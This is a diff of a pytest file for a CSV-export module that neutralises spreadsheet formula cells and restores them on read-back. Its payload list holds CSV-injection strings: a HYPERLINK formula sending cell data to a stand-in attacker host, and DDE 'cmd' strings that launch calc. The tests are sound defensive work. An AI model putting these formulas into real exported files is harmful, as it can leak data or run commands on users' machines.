@@ -7,32 +7,31 @@ from pathlib import Path
 
 import pytest
 
-from app.safe_csv import SafeDictWriter, neutralise_cell, printable_name, safe_writer
+from app.safe_csv import neutralise, neutralise_row, printable_name, restore
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
-def test_formula_cells_are_written_as_text(payload):
+def test_formula_cells_are_written_as_text_and_read_back_exactly(payload):
     buf = io.StringIO()
-    safe_writer(buf).writerow(["contract.pdf", payload, 0.5])
+    writer = csv.DictWriter(buf, ["name", "text", "score"])
+    writer.writerow(neutralise_row({"name": "contract.pdf", "text": payload, "score": 0.5}))
     row = next(csv.reader(io.StringIO(buf.getvalue())))
     assert row == ["contract.pdf", "'" + payload, "0.5"]
-
-
-def test_dict_writer_neutralises_cells_and_keeps_its_interface():
-    buf = io.StringIO()
-    writer = SafeDictWriter(buf, ["name", "text", "score"])
-    writer.writeheader()
-    writer.writerows([{"name": "=evil()", "text": "Liability is capped.", "score": -0.25}])
-    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
-    assert rows == [{"name": "'=evil()", "text": "Liability is capped.", "score": "-0.25"}]
+    assert restore(row[1]) == payload
 
 
 @pytest.mark.parametrize("value", ["-0.5", "+3", "1e-3", "-12", 7, -1.5, None, "", "Section 12.3", "a=b"])
 def test_plain_values_and_numbers_are_left_alone(value):
-    assert neutralise_cell(value) == value
+    assert neutralise(value) == value
+    assert restore(neutralise(value)) == value
+
+
+def test_a_cell_that_starts_with_an_apostrophe_survives_the_round_trip():
+    for value in ("'quoted", "''", "'=x"):
+        assert restore(neutralise(value)) == value
 
 
 @pytest.mark.parametrize("name,shown", [
